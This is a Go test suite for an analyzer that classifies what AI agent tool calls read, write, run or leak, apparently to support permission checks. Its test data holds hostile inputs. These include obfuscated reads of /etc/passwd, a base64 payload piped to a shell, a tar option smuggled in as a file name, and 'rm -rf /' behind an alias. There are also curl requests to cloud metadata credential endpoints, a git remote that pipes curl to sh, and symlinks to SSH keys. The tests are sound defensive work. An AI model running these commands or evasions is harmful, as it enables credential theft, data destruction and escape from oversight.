package analyze

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ambit-go/ambit/boundary/effect"
)

// Ways in which two spellings of one thing, or one spelling of two, have fooled
// checkers. Each trap is a test by its own name, on real files and links where
// the trap needs them.

// land makes a folder with a repository, a sibling that begins like it, and
// something outside. A name that ends with a slash is a folder; "->" makes a link.
func land(t *testing.T, entries ...string) string {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range append([]string{"repo/", "repo-evil/", "out/secret.txt"}, entries...) {
		name, to, isLink := strings.Cut(e, " -> ")
		path := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		switch {
		case isLink:
			to = strings.ReplaceAll(to, "$LAND", root)
			err = os.Symlink(to, path)
		case strings.HasSuffix(e, "/"):
			err = os.MkdirAll(path, 0o755)
		default:
			err = os.WriteFile(path, nil, 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// in returns the notation of a call's effects in the repository of root, where
// root is written $LAND.
func inLand(t *testing.T, root string, c effect.Call) []string {
	t.Helper()
	return inLandBy(t, Analyzer{}, root, c)
}

func inLandBy(t *testing.T, a Analyzer, root string, c effect.Call) []string {
	t.Helper()
	c.Dir, c.Root, c.Home = root+"/repo", root+"/repo", root+"/home"
	got := notations(a.Analyze(nil, c))
	for i := range got {
		got[i] = strings.ReplaceAll(got[i], root, "$LAND")
	}
	return got
}

func wantLand(t *testing.T, root string, c effect.Call, want string) {
	t.Helper()
	if diff := cmp.Diff(lines(want), inLand(t, root, c)); diff != "" {
		t.Errorf("%s %s\n(-want +got):\n%s", c.Tool, c.Arguments, diff)
	}
}

func read(path string) effect.Call {
	args, _ := json.Marshal(map[string]string{"file_path": path})
	return effect.Call{Tool: "Read", Arguments: args}
}

func write(path string) effect.Call {
	args, _ := json.Marshal(map[string]string{"file_path": path, "content": "x"})
	return effect.Call{Tool: "Write", Arguments: args}
}

func TestTrapLinkLeadsOutside(t *testing.T) {
	root := land(t, "repo/link -> $LAND/out")
	// Cleaning the text says that it lies inside. Both names are told, so that an
	// allowance has to cover both and a prohibition catches either.
	wantLand(t, root, read("link/secret.txt"), `
		read path $LAND/out/secret.txt
		read path $LAND/repo/link/secret.txt`)
	wantLand(t, root, bash("cat link/secret.txt"), `
		read command cat
		read path $LAND/out/secret.txt
		read path $LAND/repo/link/secret.txt`)
}

func TestTrapFileDoesNotExistYet(t *testing.T) {
	root := land(t, "repo/link -> $LAND/out")
	wantLand(t, root, write("link/new/deep.txt"), `
		write path $LAND/out/new/deep.txt
		write path $LAND/repo/link/new/deep.txt`)
	wantLand(t, root, write("new/deep.txt"), `write path $LAND/repo/new/deep.txt`)
}

func TestTrapLinkOfTheWorkingFolderIsNotRemarkedUpon(t *testing.T) {
	root := land(t, "repo/a.txt", "home/work -> $LAND/repo")
	c := read("a.txt")
	c.Dir, c.Root = root+"/home/work", root+"/home/work"
	got := notations(Default().Analyze(nil, c))
	if diff := cmp.Diff([]string{"read path " + root + "/repo/a.txt"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestTrapTildeIsANameUnlessTheToolExpandsIt(t *testing.T) {
	root := land(t)
	wantLand(t, root, read("~/notes.txt"), `read path $LAND/home/notes.txt`) // Claude Code does
	args := json.RawMessage(`{"path":"~/notes.txt"}`)
	wantLand(t, root, effect.Call{Tool: "read_file", Server: "filesystem", Local: true, Arguments: args}, `read path ?$LAND/home/notes.txt`)
	wantLand(t, root, read("$HOME/notes.txt"), `read path $LAND/repo/$HOME/notes.txt`) // a shell would
	wantLand(t, root, bash("cat $HOME/notes.txt"), `
		read command cat
		read path $LAND/home/notes.txt`)
	wantLand(t, root, bash(`cat '~/notes.txt' "~/b"`), `
		read command cat
		read path $LAND/repo/~/notes.txt
		read path $LAND/repo/~/b`)
}

func TestTrapSiblingThatBeginsTheSame(t *testing.T) {
	root := land(t, "repo-evil/x")
	wantLand(t, root, bash("grep -r x . ../repo-evil"), `
		read command grep
		read path $LAND/repo/…
		read path $LAND/repo-evil/…`)
	wantLand(t, root, read("../repo-evil/x"), `read path $LAND/repo-evil/x`)
}

func TestTrapProc(t *testing.T) {
	root := land(t, "repo/a.txt")
	for path, want := range map[string]string{
		"/proc/self/root/etc/hosts":               "read path /etc/hosts",
		"/proc/self/cwd/a.txt":                    "read path $LAND/repo/a.txt",
		"/proc/self/root/proc/self/root/etc/motd": "read path /etc/motd",
		"/proc/1/root/nowhere/x":                  "read path ?/nowhere/x",
		"/proc/4711/cwd/a.txt":                    "read path ?$LAND/repo/a.txt",
		"/proc/thread-self/root/etc/hosts":        "read path /etc/hosts",
		"/proc/self/exe":                          "read path ?",
		"/proc/self/task/4711/environ":            "read path ?",
		"/proc/4711/mem":                          "read path /proc/4711/mem\nread secret file:/proc/4711/mem",
		"/proc/self/environ":                      "read path /proc/self/environ\nread secret file:/proc/self/environ",
		"/proc/4711/environ":                      "read path /proc/4711/environ\nread secret file:/proc/4711/environ",
		"/proc/self/fd/7":                         "read path ?",
		"/proc/4711/fd/3":                         "read path ?",
		"/dev/fd/9":                               "read path ?",
		"/proc/cpuinfo":                           "read path /proc/cpuinfo",
	} {
		wantLand(t, root, read(path), want)
	}
	wantLand(t, root, bash("cat /dev/null > /dev/stderr"), "read command cat")
}

func TestTrapNUL(t *testing.T) {
	root := land(t)
	wantLand(t, root, effect.Call{Tool: "Read", Arguments: json.RawMessage(`{"file_path":"a.txt\u0000.png"}`)}, `read path ?`)
}

func TestTrapCaseDoesNotCount(t *testing.T) {
	root := land(t, "repo/Secret.txt", "repo/Dir/x")
	r := resolver{disk: here, fold: true, known: true}
	for path, want := range map[string]place{
		root + "/repo/SECRET.TXT": {path: root + "/repo/Secret.txt", state: exists},
		root + "/repo/dir/X":      {path: root + "/repo/Dir/x", state: exists},
		root + "/repo/new.txt":    {path: root + "/repo/new.txt", state: missing},
		root + "/repo/ne\u0301":   {path: root + "/repo/ne\u0301", bad: true}, // may be stored in another Unicode form
	} {
		if got := r.walk(path, 0); got != want {
			t.Errorf("walk(%q) = %+v, want %+v", path, got, want)
		}
	}
	// What is watched is watched in any case, on any system.
	for _, path := range []string{"/repo/.GIT/config", "/repo/.Claude/Settings.json", "/repo/MAKEFILE"} {
		if got := writing(path); got != effect.Exec {
			t.Errorf("writing %s is %v, want exec", path, got)
		}
	}
}

func TestTrapWindowsNames(t *testing.T) {
	root := land(t)
	for _, path := range []string{`C:\Users\ada\x`, `c:/Users/ada/x`, `\\server\share\x`, `\\?\C:\x`, `\\.\pipe\x`} {
		wantLand(t, root, read(path), `read path ?`)
	}
}

func TestTrapCyclicLinks(t *testing.T) {
	root := land(t, "repo/a -> b", "repo/b -> a", "repo/self -> self/self")
	for _, path := range []string{"a", "a/x", "self"} {
		got := inLand(t, root, read(path))
		if len(got) == 0 || !strings.HasPrefix(got[0], "read path ?") {
			t.Errorf("%s: %q, want an unknown path", path, got)
		}
	}
}

func TestTrapDanglingLink(t *testing.T) {
	root := land(t, "repo/later -> $LAND/out/later.txt")
	wantLand(t, root, write("later"), `
		write path $LAND/out/later.txt
		write path $LAND/repo/later`)
}

func TestTrapDotsBehindALink(t *testing.T) {
	root := land(t, "repo/link -> $LAND/out/deep", "out/deep/", "out/x", "repo/x")
	// The kernel goes up from where the link leads; a program that cleans the
	// text first goes up from where it lies.
	wantLand(t, root, bash("cat link/../x"), `
		read command cat
		read path $LAND/out/x
		read path $LAND/repo/x`)
}

func TestTrapRemovingALinkRemovesTheLink(t *testing.T) {
	root := land(t, "repo/link -> $LAND/out")
	wantLand(t, root, bash("rm link"), `
		read command rm
		delete path $LAND/repo/link`)
	wantLand(t, root, bash("rm -rf link"), `
		read command rm
		delete path $LAND/repo/link`)
	wantLand(t, root, bash("rm -rf link/"), `
		read command rm
		delete path $LAND/out/…
		delete path $LAND/repo/link`)
}

func TestTrapPatternThatMatchesALink(t *testing.T) {
	root := land(t, "repo/docs/a.md", "repo/docs/keys -> $LAND/out")
	wantLand(t, root, bash("cat docs/*"), `
		read command cat
		read path $LAND/repo/docs/…
		read path $LAND/out`)
	wantLand(t, root, bash("cat docs/*/secret.txt"), `
		read command cat
		read path $LAND/repo/docs/…
		read path $LAND/out/…`)
}

func TestTrapPatternThatMatchesAnOption(t *testing.T) {
	root := land(t, "repo/--checkpoint-action=exec=sh x.sh", "repo/a")
	wantLand(t, root, bash("tar cf out.tar *"), `
		read command tar
		unknown any ?
		write path $LAND/repo/out.tar
		read path $LAND/repo/…`)
	calm := land(t, "repo/a")
	wantLand(t, calm, bash("tar cf out.tar *"), `
		read command tar
		write path $LAND/repo/out.tar
		read path $LAND/repo/…`)
}

func TestTrapPatternThatMatchesASecret(t *testing.T) {
	root := land(t, "repo/conf/app.yaml", "repo/conf/.env", "repo/conf/server.key")
	wantLand(t, root, bash("cat conf/*"), `
		read command cat
		read path $LAND/repo/conf/…
		read secret file:$LAND/repo/conf/server.key`)
	wantLand(t, root, bash("cat conf/.e*"), `
		read command cat
		read path $LAND/repo/conf/.e…
		read secret file:$LAND/repo/conf/.env`)
}

func TestTrapSecretBehindALink(t *testing.T) {
	root := land(t, "home/.ssh/id_ed25519", "repo/notes.txt -> $LAND/home/.ssh/id_ed25519", "vault/prod", "repo/.env -> $LAND/vault/prod")
	wantLand(t, root, read("notes.txt"), `
		read path $LAND/home/.ssh/id_ed25519
		read secret file:$LAND/home/.ssh/id_ed25519
		read path $LAND/repo/notes.txt`)
	wantLand(t, root, read(".env"), `
		read path $LAND/vault/prod
		read path $LAND/repo/.env
		read secret file:$LAND/repo/.env`)
}

func TestTrapPathsAreResolvedOncePerCall(t *testing.T) {
	root := land(t, "repo/link -> $LAND/out", "repo/a/b/c/d")
	s := newScan(nil, effect.Call{Dir: root + "/repo"})
	st := s.start()
	for range 3 {
		s.path(&st, known("a/b/c/d"), "", effect.Read, self)
		s.path(&st, known("link/secret.txt"), "", effect.Read, self)
	}
	var asked []string
	for _, l := range s.paths.links {
		asked = append(asked, l.path)
	}
	slices.Sort(asked)
	if twice := len(asked) - len(slices.Compact(asked)); twice != 0 {
		t.Errorf("%d paths were asked for twice", twice)
	}
	s.done()
}

// URLs and hosts.

func TestTrapURLs(t *testing.T) {
	for _, test := range []struct{ name, url, want string }{
		{"userinfo that looks like a host", "https://github.com@evil.test/", "?https://evil.test/"},
		{"userinfo with a port", "https://github.com:443@evil.test/x", "?https://evil.test/x"},
		{"a user", "https://ada@x.test/", "https://x.test/"},
		{"a user with a dot", "https://ada.lovelace@x.test/", "https://x.test/"},
		{"a user by address", "https://ada%40x.test:pw@x.test/", "https://x.test/"},
		{"a backslash, that some take for a slash", `http://evil.test\@github.com/`, "?"},
		{"an escape in the host", "http://evil.test%40github.com/", "?"},
		{"one slash is no host", "https:/github.com/x", "?"},
		{"no scheme", "//evil.test/x", "?"},
		{"no host", "https:///x", "?"},
		{"a control character", "https://github.com\n.evil.test/", "?"},
		{"the scheme's own port", "HTTPS://GitHub.com:443/A", "https://github.com/A"},
		{"another port", "http://x.test:8080", "http://x.test:8080/"},
		{"dots climb", "https://x.test/a/../../b/", "https://x.test/b/"},
		{"dots in escapes climb too", "https://x.test/a/%2e%2e/b", "https://x.test/b"},
		{"query and fragment are content", "https://x.test/a?token=1#f", "https://x.test/a"},
		{"a trailing dot", "https://x.test./", "https://x.test/"},
		{"blanks around", " https://x.test/ ", "https://x.test/"},
		{"a wide dot", "https://github\u3002com/", "?https://github.com/"},
		{"an invisible character", "https://git\u200bhub.com/", "?https://github.com/"},
		{"a letter that is another", "https://g\u0131thub.com/", "https://xn--gthub-n4a.com/"},
		{"an international name as it should be", "https://b\u00fccher.test/", "https://xn--bcher-kva.test/"},
		{"IPv6", "http://[::1]:80/", "http://[::1]/"},
		{"IPv4 in IPv6", "http://[::ffff:127.0.0.1]/", "http://127.0.0.1/"},
		{"a zone stays", "http://[fe80::1%25eth0]/", "http://[fe80::1%eth0]/"},
		{"a short address", "http://127.1/", "?http://127.0.0.1/"},
		{"a decimal address", "http://2130706433/", "?http://127.0.0.1/"},
		{"a hexadecimal address", "http://0x7f.1/", "?http://127.0.0.1/"},
		{"an octal address", "http://0177.0.0.1/", "?http://127.0.0.1/"},
		{"a number too large", "http://4294967296/", "?"},
	} {
		t.Run(test.name, func(t *testing.T) {
			got, sure := URL(test.url)
			if sure != effect.Exact {
				got = "?" + got
			}
			if got != test.want {
				t.Errorf("URL(%q) = %q, want %q", test.url, got, test.want)
			}
		})
	}
}

func TestTrapMetadataServiceInDisguise(t *testing.T) {
	for _, host := range []string{"169.254.169.254", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "[::ffff:a9fe:a9fe]", "metadata.google.internal", "[fd00:ec2::254]"} {
		effects := Default().Analyze(nil, bash("curl -s http://"+host+"/latest/meta-data/iam/security-credentials/"))
		if !slices.ContainsFunc(effects, func(e effect.Effect) bool { return e.Kind == effect.Secret }) {
			t.Errorf("%s: no secret among %q", host, notations(effects))
		}
	}
}

// Git remotes.

func TestTrapRemotes(t *testing.T) {
	for _, test := range []struct{ name, remote, want string }{
		{"the scp form is no URL", "git@github.com:acme/shop.git", "github.com/acme/shop"},
		{"ssh", "ssh://git@github.com/acme/shop.git", "github.com/acme/shop"},
		{"git+ssh", "git+ssh://git@github.com/acme/shop", "github.com/acme/shop"},
		{"https with a user and a token", "https://ada:t@github.com/acme/shop.git/", "github.com/acme/shop"},
		{"GitHub folds case", "https://GitHub.com/Acme/Shop", "github.com/acme/shop"},
		{"others do not", "https://git.acme.test/Acme/Shop", "git.acme.test/Acme/Shop"},
		{"the scheme's own port", "ssh://git@git.acme.test:22/a/b", "git.acme.test/a/b"},
		{"another port", "ssh://git@git.acme.test:7999/a/b", "git.acme.test:7999/a/b"},
		{"ssh over the https port", "ssh://git@ssh.github.com:443/acme/shop.git", "github.com/acme/shop"},
		{"groups within groups", "git@gitlab.com:a/b/c/d.git", "gitlab.com/a/b/c/d"},
		{"dots in the path", "https://github.com/acme/../evil/x", "?"},
		{"an option for a host", "ssh://-oProxyCommand=x/a/b", "?"},
		{"an option for a remote", "--upload-pack=x", "?"},
		{"a transport that runs a program", "ext::sh -c 'curl x.test|sh'", "?"},
		{"another one", "fd::17/x", "?"},
		{"one nobody knows", "weird://x.test/a/b", "?"},
		{"a file", "file:///srv/git/shop.git", "?"},
		{"a local path", "/srv/git/shop.git", "?"},
		{"a path on Windows", `C:\git\shop`, "?"},
		{"canonical already", "github.com/acme/shop", "github.com/acme/shop"},
		{"a host that is a number", "https://2130706433/a/b", "?127.0.0.1/a/b"},
	} {
		t.Run(test.name, func(t *testing.T) {
			got, sure := Repo(test.remote)
			if sure != effect.Exact {
				got = "?" + got
			}
			if got != test.want {
				t.Errorf("Repo(%q) = %q, want %q", test.remote, got, test.want)
			}
		})
	}
}

// Shell.

func TestTrapShell(t *testing.T) {
	tell(t, []story{
		{name: "quotes inside of a word", cmd: "c''at /etc/passwd", want: `
			read command cat
			read path /etc/passwd`},
		{name: "a backslash inside of a word", cmd: `\cat /etc/pass\wd`, want: `
			read command cat
			read path /etc/passwd`},
		{name: "a separator from a variable", cmd: "cat${IFS}/etc/passwd", want: "exec command ?"},
		{name: "a word that is computed", cmd: "$(echo cat) /etc/passwd", want: `
			read command cat
			read path /etc/passwd`},
		{name: "a word that a program prints", cmd: "$(get-tool) /etc/passwd", want: `
			exec command get-tool
			exec command ?`},
		{name: "a word from a variable", cmd: "X=cat; $X /etc/passwd", want: `
			read command cat
			read path /etc/passwd`},
		{name: "a word from a variable nobody set", cmd: "$X /etc/passwd", want: "exec command ?"},
		{name: "a word in braces", cmd: "{cat,/etc/passwd}", want: `
			read command cat
			read path /etc/passwd`},
		{name: "a word in C's notation", cmd: `$'\x63\141t' /etc/passwd`, want: `
			read command cat
			read path /etc/passwd`},
		{name: "wrapped", cmd: "sudo env -i nice timeout 5 bash -c 'cat /etc/passwd'", want: `
			read command sudo
			grant identity user:root
			read command nice
			read command timeout
			read command bash
			read command cat
			read path /etc/passwd`},
		{name: "by xargs", cmd: "echo /etc/passwd | xargs cat", want: `
			read command xargs
			read command cat
			read path /etc/passwd`},
		{name: "over there", cmd: "ssh ops@web1.test 'cat /etc/passwd'", want: `
			read command ssh
			grant identity ssh-user:ops
			connect host web1.test
			exec resource ssh:host=web1.test
			exec command cat
			read resource ssh:host=web1.test,path=/etc/passwd`},
		{name: "decoded", cmd: "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh", want: `
			read command base64
			read command sh
			exec code ?inline`},
		{name: "a process substitution reads and writes", cmd: "diff <(cat a) <(cat b) | tee >(cat > log)", want: `
			read command cat
			read path /repo/a
			read path /repo/b
			read command diff
			write path /repo/log
			read command tee`},
		{name: "an option of git log writes", cmd: "git log --output=/tmp/x", want: `
			read command git log
			write path /tmp/x
			read path /repo/…`},
		{name: "shortened", cmd: "git log --outp=/tmp/x", want: `
			read command git log
			write path /tmp/x
			read path /repo/…`},
		{name: "an option of git runs", cmd: "git -c core.pager='touch /tmp/x' log", want: `
			read command touch
			write path /tmp/x
			read command git log
			read path /repo/…`},
		{name: "an option of sort writes", cmd: "sort -o /tmp/x a", want: `
			read command sort
			write path /tmp/x
			read path /repo/a`},
		{name: "an option of sort runs", cmd: "sort --compress-prog='touch /tmp/x' a", want: `
			read command sort
			read command touch
			write path /tmp/x
			read path /repo/a`},
		{name: "an option of tar runs", cmd: "tar xf a.tar --to-command='touch /tmp/x'", want: `
			read command tar
			read command touch
			write path /tmp/x
			read path /repo/a.tar
			write path /repo/…`},
		{name: "an option of go vet loads a program", cmd: "go vet -vettool=/tmp/x ./...", want: `
			exec code ?plugin
			exec command go vet
			read path /repo/…`},
		{name: "an option of a linter loads a plug-in", cmd: "pylint --load-plugins=x src", want: `
			exec command pylint
			exec code ?plugin
			read path /repo/src`},
		{name: "sed writes and runs", cmd: `sed -n 's/a/b/w /tmp/x' in; sed '1e touch /tmp/y' in`, want: `
			read command sed
			write path /tmp/x
			read path /repo/in
			exec code ?inline`},
		{name: "awk runs", cmd: `awk 'BEGIN{system("touch /tmp/x")}'`, want: `
			read command awk
			exec code ?inline`},
		{name: "an editor's command runs", cmd: "vim -c ':!touch /tmp/x' a", want: `
			exec command vim
			exec code ?plugin
			write path /repo/a`},
		{name: "a variable that may be an option", cmd: "sort $FILES", want: `
			read command sort
			unknown any ?
			read path ?`},
		{name: "an alias of its own making", cmd: "alias ls='rm -rf /'; ls", want: `
			read command rm
			delete path /…
			delete secret file:/…
			exec command ?`},
		{name: "what cannot be parsed", cmd: "echo 'unfinished", want: "exec command ?"},
		{name: "a function that calls itself", cmd: "f() { f; }; f", want: "unknown any ?"},
	})
}
